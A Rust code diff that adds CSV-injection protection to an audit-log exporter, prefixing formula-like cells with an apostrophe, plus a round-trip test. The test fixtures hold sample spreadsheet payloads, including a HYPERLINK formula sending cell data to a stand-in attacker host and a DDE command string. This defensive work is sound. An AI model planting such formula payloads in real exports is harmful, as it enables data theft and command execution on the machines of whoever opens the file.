@@ -5,6 +5,12 @@
 //! CSV is written as RFC 4180 with `\n` line ends: a cell is quoted only when it holds a comma,
 //! a quote or a line break, and quotes inside are doubled. The reader takes what that writes
 //! (and `\r\n` line ends, a leading byte-order mark, blank lines, columns in any order).
+//!
+//! A text cell that a spreadsheet would take for a formula — starting with `=`, `+`, `-`, `@`, a
+//! tab or a carriage return — is written with a `'` in front (OWASP's advice against CSV
+//! injection: a principal's comment such as `=HYPERLINK(...)` stays text when an auditor opens
+//! the export), and so is a cell that starts with `'` itself; the reader takes that one `'` off,
+//! so what is read back is exactly what was recorded.
 
 use std::fmt;
 
@@ -94,11 +100,30 @@ pub fn csv_record(row: &AuditRow) -> Vec<String> {
             match v {
                 _ if CSV_JSON_COLUMNS.contains(col) => v.to_string(),
                 Value::Null => String::new(),
-                Value::String(s) => s.clone(),
+                Value::String(s) => defused(s),
                 other => other.to_string(),
             }
         })
         .collect()
+}
+
+/// Starts of a text cell that a spreadsheet reads as a formula (and `'`, the mark itself).
+const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];
+
+/// `text` as a cell no spreadsheet runs: `'` in front of a formula's start.
+fn defused(text: &str) -> String {
+    match text.starts_with(FORMULA_STARTS) {
+        true => format!("'{text}"),
+        false => text.to_owned(),
+    }
+}
+
+/// The text a [`defused`] cell holds.
+fn text_of(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
+        _ => cell,
+    }
 }
 
 /// Writes one CSV line (quoting only where needed) into `out`.
@@ -266,7 +291,7 @@ fn row_of_cells(header: &[String], cells: &[String]) -> Result<AuditRow, String>
                     .map_err(|e| format!("column {col}: {e}"))?,
             )
         } else {
-            Value::String(cell.clone())
+            Value::String(text_of(cell).to_owned())
         };
         obj.insert(col.to_owned(), v);
     }
@@ -415,6 +440,43 @@ mod tests {
             w.write_record(csv_record(r)).unwrap();
         }
         String::from_utf8(w.into_inner().unwrap()).unwrap()
+    }
+
+    /// A comment (or session id) a spreadsheet would run is written as text, and read back as
+    /// it was recorded.
+    #[test]
+    fn csv_cells_that_look_like_formulas_stay_text_and_read_back_exactly() {
+        let comments = [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            "+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\tx",
+            "\r=1",
+            "'already quoted",
+            "''",
+            "plain = text",
+        ];
+        let mut rows: Vec<AuditRow> = comments
+            .iter()
+            .map(|c| row(Some(c), json!({"q": "=1"})))
+            .collect();
+        rows[0].session_id = "=cmd|' /C calc'!A0".into();
+        let text = encode(Format::Csv, &rows);
+        for record in csv::Reader::from_reader(text.as_bytes()).records() {
+            let record = record.unwrap();
+            for cell in record.iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "a cell a spreadsheet would run: {cell:?}"
+                );
+            }
+        }
+        assert!(text.contains("'=HYPERLINK("), "{text}");
+        assert!(text.contains(",plain = text,"), "{text}");
+        assert_eq!(rows_from_csv(&text).unwrap(), rows);
+        // An export written before cells were marked reads as it did.
+        assert_eq!(text_of("'abc"), "'abc");
     }
 
     #[test]
